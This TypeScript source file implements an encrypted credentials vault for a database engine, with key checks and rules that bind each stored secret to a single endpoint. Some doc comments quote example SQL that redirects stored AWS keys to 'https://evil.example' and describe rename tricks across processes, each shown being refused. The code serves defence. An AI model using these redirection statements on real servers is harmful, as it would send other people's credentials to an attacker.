import { createCipheriv, createDecipheriv, randomBytes } from 'node:crypto';
import { EngineError, SqlState } from '../errors';
import { NOTIFY_CATALOG_CHANGE } from '../host/catalog-notify';
import type { Host } from '../host/host';
import { HolderWrites, vaultHolder, writtenBy } from './holder-writes';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** SQL that creates the vault: `vault.secrets` holds metadata only; ciphertexts live apart. */
export const VAULT_DDL = `
create schema if not exists vault;
create table if not exists vault.secrets (
  id uuid primary key default gen_random_uuid(),
  name text unique,
  description text not null default '',
  created_at timestamptz not null default now(),
  updated_at timestamptz not null default now()
);
create schema if not exists dynascope;
create table if not exists dynascope.secret_values (
  id uuid primary key references vault.secrets(id) on delete cascade,
  nonce bytea not null,
  ciphertext bytea not null,
  tag bytea not null
);
-- One row encrypted with the vault key the vault was made with (Vault.checkKey).
create table if not exists dynascope.vault_key_check (
  only_row boolean primary key default true check (only_row),
  nonce bytea not null,
  ciphertext bytea not null,
  tag bytea not null
);
create or replace function vault.create_secret(secret text, name text default null, description text default '')
returns uuid language plpgsql as $$
begin
  raise exception 'vault.create_secret must be called on its own with constant arguments'
    using errcode = '0A000', hint = 'select vault.create_secret(''<secret>'', ''<name>'', ''<description>'')';
end $$;
create or replace function vault.update_secret(secret_id text, new_secret text default null, new_name text default null, new_description text default null)
returns void language plpgsql as $$
begin
  raise exception 'vault.update_secret must be called on its own with constant arguments'
    using errcode = '0A000', hint = 'select vault.update_secret(''<id or name>'', ''<new secret>'', ''<new name>'', ''<new description>'')';
end $$;
`;

/** The vault secrets a server's keys are read from: what its vault_* options name, and its plain key options kept in the vault. */
export interface VaultCredentials {
  readonly refs: readonly string[];
  readonly plainOptions: readonly string[];
}

/**
 * The secrets a server signs with ($1: its vault_* options' refs, $2: its oid, $3: its plain options
 * the vault keeps), each with the name it is shown by: its own, the description of a plain option's
 * (`option aws_secret_access_key of server s1`), or its id. An id is matched in any case, as read()
 * reads it (`$1::uuid`): an upper-case one escaped the binding (found by helper-125).
 */
const USED_SECRETS = `with used as (
  select s.id, coalesce(s.name, s.id::text) as shown from vault.secrets s
   where s.id::text = any (select pg_catalog.lower(r) from pg_catalog.unnest($1::text[]) r)
      or s.name = any($1::text[])
  union
  select s.id, coalesce(s.description, s.id::text) from dynascope.server_credentials c
    join vault.secrets s on s.id = c.secret_id
   where c.server_oid = $2 and c.option = any($3::text[]))`;

/** What the vault's plaintext check row says (it proves only which key made the vault). */
const KEY_CHECK_TEXT = 'dynascope vault key check';

/**
 * Where the vault key must agree, for the errors' hint: a data directory's PGlite, or one
 * PostgreSQL database that several API processes share.
 */
export type VaultKeyScope = 'data directory' | 'database';

/** AES-256-GCM secrets encrypted with a key that never enters the catalog. */
export class Vault {
  constructor(
    private readonly host: Host,
    private readonly key: Buffer,
    private readonly scope: VaultKeyScope = 'data directory',
    /**
     * Who this process writes the vault as, on a shared database (the API token's holder, or one of
     * its own): what the holder wrote and freed decides what it may bind (vault/holder-writes.ts).
     */
    private readonly writes: HolderWrites = new HolderWrites(vaultHolder(key, undefined)),
  ) {}

  /**
   * Checks at start-up that this key is the vault's: the first engine on a host stores a row
   * encrypted with its key (two starting at once: one row wins, the other reads it); every later
   * one must decrypt it. A vault from before the check row is checked on one of its secrets.
   * Another key is 28000 naming DYNASCOPE_VAULT_KEY, never either key.
   */
  checkKey(): Promise<void> {
    return this.host.asOwner(async () => {
      const stored = await this.host.query('select 1 from dynascope.vault_key_check');
      if (!stored.rows.length) {
        const first = await this.host.query('select id::text from vault.secrets limit 1');
        if (first.rows.length) await this.decrypt(first.rows[0]![0]!, () => this.wrongKey());
        const { nonce, ciphertext, tag } = this.encrypt(KEY_CHECK_TEXT);
        await this.host.query(
          'insert into dynascope.vault_key_check (nonce, ciphertext, tag) values ($1, $2, $3) on conflict do nothing',
          [nonce, ciphertext, tag],
        );
      }
      const row = (
        await this.host.query(
          "select encode(nonce, 'hex'), encode(ciphertext, 'hex'), encode(tag, 'hex') from dynascope.vault_key_check",
        )
      ).rows[0]!;
      if (this.decipher(row) !== KEY_CHECK_TEXT) throw this.wrongKey();
    });
  }

  private wrongKey(): EngineError {
    return new EngineError(
      '28000',
      this.scope === 'database'
        ? "this vault key is not the one the database's vault was made with"
        : "this vault key is not the one the data directory's vault was made with",
      { hint: this.keyHint() },
    );
  }

  private keyHint(): string {
    return this.scope === 'database'
      ? 'every API process on one PostgreSQL database (DYNASCOPE_DATABASE_URL) needs the same DYNASCOPE_VAULT_KEY; without it each process uses the vault.key file of its own data directory'
      : 'the data directory was opened with a different DYNASCOPE_VAULT_KEY or vault.key file';
  }

  /** This vault on a session's connection of the host (Engine.context). */
  private readonly onHosts = new WeakMap<Host, Vault>();

  /**
   * This vault on another connection of the host — a session's: what a statement stores (CREATE or
   * ALTER SERVER's plain keys, vault.create_secret, vault.update_secret) is then part of its
   * transaction, kept or rolled back with it. On a PostgreSQL host the engine's own connection
   * commits apart from the session's: an ALTER SERVER refused or rolled back had changed the keys.
   */
  on(host: Host): Vault {
    if (host === this.host) return this;
    let vault = this.onHosts.get(host);
    if (!vault) this.onHosts.set(host, (vault = new Vault(host, this.key, this.scope, this.writes)));
    return vault;
  }

  /**
   * Whether other API processes share this vault (a PostgreSQL database): they must hear of its
   * changes, and check the keys their clients were built with (dynamo/client-cache.ts).
   */
  get shared(): boolean {
    return this.scope === 'database';
  }

  /**
   * Stores a secret; returns its uuid. On a shared database, made under a name this holder freed
   * (a rotation by name), it is bound at once to where the old one went (bindFreedName).
   */
  create(secret: string, name: string | null, description: string | null): Promise<string> {
    return this.host.asOwner(async () => {
      // A name a server's vault_* option may name already: other processes must look again.
      if (name === null || !this.shared) return this.insert(secret, name, description);
      return this.host.transaction(async () => {
        const id = await this.insert(secret, name, description);
        await this.bindFreedName(id, name);
        await this.host.query(NOTIFY_CATALOG_CHANGE);
        return id;
      });
    });
  }

  private async insert(secret: string, name: string | null, description: string | null): Promise<string> {
    if (
      name !== null &&
      (await this.host.query('select 1 from vault.secrets where name = $1', [name])).rows.length
    ) {
      throw new EngineError('23505', `a vault secret named "${name}" already exists`);
    }
    const { nonce, ciphertext, tag } = this.encrypt(secret);
    const id = (
      await this.host.query('insert into vault.secrets (name, description) values ($1, $2) returning id', [
        name,
        description ?? '',
      ])
    ).rows[0]![0]!;
    await this.host.query(
      'insert into dynascope.secret_values (id, nonce, ciphertext, tag) values ($1, $2, $3, $4)',
      [id, nonce, ciphertext, tag],
    );
    if (this.shared) await this.writes.wrote(this.host, id);
    return id;
  }

  /**
   * Changes a secret (named by uuid or name): a new value is encrypted afresh (new nonce); NULL
   * arguments leave the value, name or description as they are.
   */
  update(ref: string, secret: string | null, name: string | null, description: string | null): Promise<void> {
    return this.host.asOwner(() => this.change(ref, secret, name, description));
  }

  private async change(
    ref: string,
    secret: string | null,
    name: string | null,
    description: string | null,
  ): Promise<void> {
    const found = await this.host.query(
      `select id::text, name from vault.secrets where ${UUID.test(ref) ? 'id = $1::uuid' : 'name = $1'}`,
      [ref],
    );
    const [id, oldName = null] = found.rows[0] ?? [];
    if (!id) throw new EngineError(SqlState.undefinedObject, `vault secret "${ref}" not found`);
    if (secret !== null) await this.refuseAnotherHolders(ref, id);
    if (
      name !== null &&
      (await this.host.query('select 1 from vault.secrets where name = $1 and id <> $2::uuid', [name, id]))
        .rows.length
    ) {
      throw new EngineError('23505', `a vault secret named "${name}" already exists`);
    }
    await this.host.transaction(async () => {
      await this.host.query(
        'update vault.secrets set name = coalesce($2, name), description = coalesce($3, description), updated_at = now() where id = $1::uuid',
        [id, name, description],
      );
      // Other API processes may have clients signing with the old value, or with the secret a name
      // named before (a rename is a rotation too).
      if (this.shared) await this.host.query(NOTIFY_CATALOG_CHANGE);
      if (secret !== null) {
        const { nonce, ciphertext, tag } = this.encrypt(secret);
        await this.host.query(
          'update dynascope.secret_values set nonce = $2, ciphertext = $3, tag = $4 where id = $1::uuid',
          [id, nonce, ciphertext, tag],
        );
        if (this.shared) await this.writes.wrote(this.host, id);
      }
      if (!this.shared) return;
      if (name !== null && oldName !== null && name !== oldName) await this.freeName(id, oldName);
      await this.bindFreedName(id, name ?? oldName);
    });
  }

  /**
   * On a shared database, refuses (42501) a new value for a secret another token holder wrote and a
   * server bound to a destination: that holder may have renamed a secret of its own, bound to its
   * endpoint, under the name this holder writes by, which would take this holder's key there.
   *   holder B: create_secret('…', 'kb'), its server at https://b.example binds it; renames k → k_x, kb → k
   *   holder A: update_secret('k', 'AKIA…new') → 42501, nothing written
   * A secret bound nowhere takes the value (it goes where the writer's first server sends it), and one
   * written before writers were recorded too.
   */
  private async refuseAnotherHolders(ref: string, id: string): Promise<void> {
    if (!this.shared || (await this.writes.writer(this.host, id)) !== 'another') return;
    const destination = await this.boundTo(id);
    if (destination === undefined) return;
    throw new EngineError(
      SqlState.insufficientPrivilege,
      `vault secret "${ref}" was written with another API token and goes to ${destination}: its value may be written only with that token`,
      {
        hint: "store the key as a new secret (select vault.create_secret('<secret>', '<new name>')) and name that in the server's options (alter server s options (set vault_access_key_id '<new name>')), or write it from a process started with the token that wrote it",
      },
    );
  }

  /** Where a secret is bound to go (dynascope.secret_destinations); undefined while bound nowhere. */
  private async boundTo(id: string): Promise<string | undefined> {
    const r = await this.host.query(
      'select destination from dynascope.secret_destinations where secret_id = $1::uuid',
      [id],
    );
    return r.rows[0]?.[0] ?? undefined;
  }

  /**
   * A secret renamed away from `name` by this holder: if it wrote the secret's value and the secret
   * was bound, a secret the holder writes under that name next goes where it went (a rotation by
   * name; vault/holder-writes.ts). One it did not write may be another holder's, bound to that
   * holder's endpoint and renamed under this holder's name: its next key there would go to that endpoint.
   *   process B: create_secret('…', 'k_b'), its server at https://b.example binds it; renames k → x, k_b → k
   *   process A: update_secret('k', null, 'k_old'); create_secret('AKIA…new', 'k') → new 'k' bound nowhere
   */
  private async freeName(id: string, name: string): Promise<void> {
    if ((await this.writes.writer(this.host, id)) !== 'this') return;
    const destination = await this.boundTo(id);
    if (destination) await this.writes.freedName(this.host, name, destination);
  }

  /**
   * On a shared database, binds a secret this holder wrote, now named by a name it freed, to where
   * the secret that had the name went — in the transaction that writes it, so that every process's
   * server naming the name signs with it at once (a rotation by name across processes):
   *   process A: select vault.update_secret('k', null, 'k_old'); select vault.create_secret('AKIA…', 'k')
   *   process B: its server naming 'k' (where 'k_old' goes) → signs with the new 'k'
   * The holder may be another process of the same token, or this one after a restart. Any other secret
   * bound nowhere stays so; its first server must be made, or its client built, in a process of the
   * token that wrote it (refuseUnwritten).
   */
  private async bindFreedName(id: string, name: string | null): Promise<void> {
    const destination = await this.writes.destinationFor(this.host, id, name);
    if (destination === undefined) return;
    await this.host.query(
      `insert into dynascope.secret_destinations (secret_id, destination) values ($1::uuid, $2)
       on conflict (secret_id) do nothing`,
      [id, destination],
    );
  }

  /**
   * Where a server's keys stand in the vault now: the secrets its vault_* options name (by id or
   * name) and those that hold its plain key options (storeServerCredential), each with when it last
   * changed. A rotation — a secret updated, another one stored for an option, one dropped or made
   * under a name again — changes it; a client built with the keys can tell it is stale
   * (dynamo/client-cache.ts).
   */
  async credentialStamp(serverOid: number, secrets: VaultCredentials): Promise<string> {
    return (await this.credentialStamps(new Map([[serverOid, secrets]]))).get(serverOid) ?? '';
  }

  /** credentialStamp of several servers in one query (a recheck of every cached client). */
  credentialStamps(servers: ReadonlyMap<number, VaultCredentials>): Promise<Map<number, string>> {
    const list = [...servers].map(([oid, secrets]) => ({
      oid,
      ids: secrets.refs.filter((ref) => UUID.test(ref)),
      names: secrets.refs.filter((ref) => !UUID.test(ref)),
      options: [...secrets.plainOptions],
    }));
    if (!list.length) return Promise.resolve(new Map());
    const texts = (field: string) => `array(select pg_catalog.jsonb_array_elements_text(e->'${field}'))`;
    return this.host.asOwner(async () => {
      const r = await this.host.query(
        `select e->>'oid',
                coalesce((select pg_catalog.string_agg(s.id::text || ' ' || s.updated_at::text || ' ' || v.xmin::text, ',' order by s.id)
                            from vault.secrets s left join dynascope.secret_values v using (id)
                           where s.id = any(${texts('ids')}::uuid[]) or s.name = any(${texts('names')})
                              or s.id in (select c.secret_id from dynascope.server_credentials c
                                           where c.server_oid = (e->>'oid')::oid and c.option = any(${texts('options')}))), '')
           from pg_catalog.jsonb_array_elements($1::jsonb) e`,
        [JSON.stringify(list)],
      );
      return new Map(r.rows.map((row) => [Number(row[0]), String(row[1] ?? '')]));
    });
  }

  /**
   * Binds the secrets a server signs with — those its `vault_*` options name and those the vault
   * keeps for its plain options — to where it sends them (@dynascope/contract credentialDestination),
   * in CREATE/ALTER SERVER's transaction. A secret bound to another destination is refused (42501)
   * unless `refuse` is false (the bind at open of a catalog from before bindings: first come binds).
   * So no SQL can make a stored key go to an endpoint of its choosing — a server of its own naming
   * the secret, or ALTER SERVER ... SET endpoint_url of the server that has it (found by helper-122).
   *   create server s ... (vault_access_key_id 'k', ...)                        → k bound to 'aws'
   *   alter server s options (set endpoint_url 'https://evil.example')          → 42501, nothing sent
   */
  bindToDestination(
    server: { readonly oid: number; readonly name: string },
    secrets: VaultCredentials,
    destination: string,
    refuse = true,
  ): Promise<void> {
    return this.host.asOwner(async () => {
      const args = [secrets.refs, server.oid, secrets.plainOptions, destination];
      if (refuse) await this.refuseElsewhere(server, args, destination);
      if (refuse) await this.refuseUnwritten(server, secrets);
      await this.bind(args, refuse);
    });
  }

  /**
   * Refuses (42501) a server whose secrets are bound to another destination than `destination` (a
   * client about to be built). On a shared database, what this holder wrote and no server bound yet
   * is bound now; a secret bound nowhere that it did not write is refused (refuseUnwritten).
   */
  checkDestination(
    server: { readonly oid: number; readonly name: string },
    secrets: VaultCredentials,
    destination: string,
  ): Promise<void> {
    return this.host.asOwner(async () => {
      const args = [secrets.refs, server.oid, secrets.plainOptions, destination];
      await this.refuseElsewhere(server, args, destination);
      if (!this.shared) return;
      await this.refuseUnwritten(server, secrets);
      await this.bind(args, true);
    });
  }

  /**
   * Binds the secrets of `args` (USED_SECRETS' and the destination, $4) bound nowhere yet. On a
   * shared database, `onlyWritten` binds only those this holder wrote: a secret renamed under a
   * name in between refuseUnwritten and here is not this holder's to bind.
   */
  private async bind(args: readonly unknown[], onlyWritten: boolean): Promise<void> {
    await this.host.query(
      `${USED_SECRETS}
       insert into dynascope.secret_destinations (secret_id, destination)
       select id, $4 from used where $5::text is null or ${writtenBy('id', 5)}
       on conflict (secret_id) do nothing`,
      [...args, this.shared && onlyWritten ? this.writes.holder : null],
    );
  }

  /**
   * On a database several API processes share (each with its own token), refuses (42501) a server
   * naming a secret bound to no destination yet whose value this token's holder did not write: its
   * first server chooses where it goes, and another holder's server — made before the owner's, or
   * naming a name the secret took later — would send it to an endpoint of its choosing (security
   * review s38-h4). Writing a value here first (vault.update_secret) sends only this holder's own
   * value; a data directory has one process.
   *   process A: select vault.create_secret('AKIA…', 'k')
   *   process B: create server s ... (vault_session_token 'k', endpoint_url 'https://evil.example') → 42501
   */
  private async refuseUnwritten(
    server: { readonly oid: number; readonly name: string },
    secrets: VaultCredentials,
  ): Promise<void> {
    if (!this.shared) return;
    const r = await this.host.query(
      `${USED_SECRETS}
       select u.shown from used u
        where not exists (select 1 from dynascope.secret_destinations d where d.secret_id = u.id)
          and not ${writtenBy('u.id', 4)}
        order by u.shown limit 1`,
      [secrets.refs, server.oid, secrets.plainOptions, this.writes.holder],
    );
    const shown = r.rows[0]?.[0];
    if (shown !== undefined)
      throw new EngineError(
        SqlState.insufficientPrivilege,
        `vault secret "${shown}" goes nowhere yet: server "${server.name}" may send it only from an API process started with the token that wrote it`,
        {
          hint: "on a database several API processes share, a key's first server must be made, or its client built, where the key was written; write it here first (select vault.update_secret('<id or name>', '<secret>')) or make the server in the process that wrote it",
        },
      );
  }

  private async refuseElsewhere(
    server: { readonly name: string },
    args: readonly unknown[],
    destination: string,
  ): Promise<void> {
    const r = await this.host.query(
      `${USED_SECRETS}
       select u.shown, d.destination from used u join dynascope.secret_destinations d on d.secret_id = u.id
        where d.destination <> $4 order by u.shown limit 1`,
      args,
    );
    const [shown, bound] = r.rows[0] ?? [];
    if (shown !== undefined)
      throw new EngineError(
        SqlState.insufficientPrivilege,
        `vault secret "${shown}" goes only to ${bound}: server "${server.name}" would send it to ${destination}`,
        {
          hint: 'a stored key goes only where it was first sent; give this server keys of its own for this endpoint (a new vault secret, or its plain keys in the same ALTER SERVER)',
        },
      );
  }

  private encrypt(secret: string): { nonce: Buffer; ciphertext: Buffer; tag: Buffer } {
    const nonce = randomBytes(12);
    const cipher = createCipheriv('aes-256-gcm', this.key, nonce);
    const ciphertext = Buffer.concat([cipher.update(secret, 'utf8'), cipher.final()]);
    return { nonce, ciphertext, tag: cipher.getAuthTag() };
  }

  /** A plain credential option of a server, kept in the vault since CREATE/ALTER SERVER (spec §1). */
  storeServerCredential(serverOid: number, server: string, option: string, secret: string): Promise<void> {
    return this.host.asOwner(async () => {
      const id = await this.insert(secret, null, `option ${option} of server ${server}`);
      await this.host.query(
        `insert into dynascope.server_credentials (server_oid, option, secret_id) values ($1, $2, $3)
         on conflict (server_oid, option) do update set secret_id = excluded.secret_id`,
        [serverOid, option, id],
      );
    });
  }

  /** The value of a server's plain credential option. */
  readServerCredential(serverOid: number, server: string, option: string): Promise<string> {
    return this.host.asOwner(async () => {
      const r = await this.host.query(
        'select secret_id::text from dynascope.server_credentials where server_oid = $1 and option = $2',
        [serverOid, option],
      );
      const id = r.rows[0]?.[0];
      if (!id)
        throw new EngineError(
          SqlState.fdwError,
          `credential "${option}" of server "${server}" is missing from the vault`,
        );
      return this.decrypt(id);
    });
  }

  /**
   * Decrypts the secret named by a uuid or a name (a server's `vault_*` option). A secret the vault
   * keeps for a server's plain credential option is that server's alone (readServerCredential):
   * named by another server's `vault_session_token`, its value would go in a header to whatever
   * endpoint that server names (found by helper-122).
   *
   * With `destination` (a client being built for it, after checkDestination), the value is read only
   * if the secret the name names now is bound there — or, on a data directory, bound nowhere — in
   * the same query that reads it: another session may rename a secret under the name between the
   * check and this read (one bound nowhere, another process's; or one bound elsewhere), and the
   * client would sign with a secret that was never checked.
   *   checkDestination: 'k' (this process's) bound to http://x.example
   *   another session: vault.update_secret('k', null, 'k_old'); vault.update_secret('other', null, 'k')
   *   read('k', 'http://x.example') → 42501 vault secret "k" changed while a client was being built: ...
   */
  read(ref: string, destination?: string): Promise<string> {
    return this.host.asOwner(async () => {
      const r = await this.host.query(
        `select encode(v.nonce, 'hex'), encode(v.ciphertext, 'hex'), encode(v.tag, 'hex'), d.destination,
                c.option, coalesce(fs.srvname::text, '')
           from vault.secrets s join dynascope.secret_values v using (id)
           left join dynascope.secret_destinations d on d.secret_id = s.id
           left join lateral (select c.option, c.server_oid from dynascope.server_credentials c
                               where c.secret_id = s.id limit 1) c on true
           left join pg_catalog.pg_foreign_server fs on fs.oid = c.server_oid
          where ${UUID.test(ref) ? 's.id = $1::uuid' : 's.name = $1'}`,
        [ref],
      );
      const row = r.rows[0];
      if (!row) throw new EngineError(SqlState.fdwError, `vault secret "${ref}" not found`);
      const [, , , bound = null, option = null, server] = row;
      if (option !== null)
        throw new EngineError(
          SqlState.insufficientPrivilege,
          `vault secret "${ref}" holds option ${option} of server "${server}": only that server uses it`,
          {
            hint: 'give this server keys of its own (its own vault secrets, or plain options the vault keeps for it)',
          },
        );
      if (destination !== undefined && bound !== destination && (this.shared || bound !== null))
        throw new EngineError(
          SqlState.insufficientPrivilege,
          `vault secret "${ref}" changed while a client was being built: it goes ${bound === null ? 'nowhere yet' : `only to ${bound}`}, not to ${destination}`,
          { hint: 'run the statement again' },
        );
      const text = this.decipher(row);
      if (text === null) throw this.cannotDecrypt(ref);
      return text;
    });
  }

  private async decrypt(ref: string, wrongKey = (): EngineError => this.cannotDecrypt(ref)): Promise<string> {
    const byId = UUID.test(ref);
    const result = await this.host.query(
      `select encode(v.nonce, 'hex'), encode(v.ciphertext, 'hex'), encode(v.tag, 'hex')
         from vault.secrets s join dynascope.secret_values v using (id)
        where ${byId ? 's.id = $1::uuid' : 's.name = $1'}`,
      [ref],
    );
    const row = result.rows[0];
    if (!row) throw new EngineError(SqlState.fdwError, `vault secret "${ref}" not found`);
    const text = this.decipher(row);
    if (text === null) throw wrongKey();
    return text;
  }

  private cannotDecrypt(ref: string): EngineError {
    return new EngineError(
      SqlState.fdwError,
      `vault secret "${ref}" cannot be decrypted with this vault key`,
      {
        hint: this.keyHint(),
      },
    );
  }

  /** A row of nonce, ciphertext and tag in hex, decrypted with this key; null if it is another key's. */
  private decipher(row: readonly (string | null)[]): string | null {
    const decipher = createDecipheriv('aes-256-gcm', this.key, Buffer.from(row[0]!, 'hex'));
    decipher.setAuthTag(Buffer.from(row[2]!, 'hex'));
    try {
      return Buffer.concat([decipher.update(Buffer.from(row[1]!, 'hex')), decipher.final()]).toString('utf8');
    } catch {
      return null;
    }
  }
}
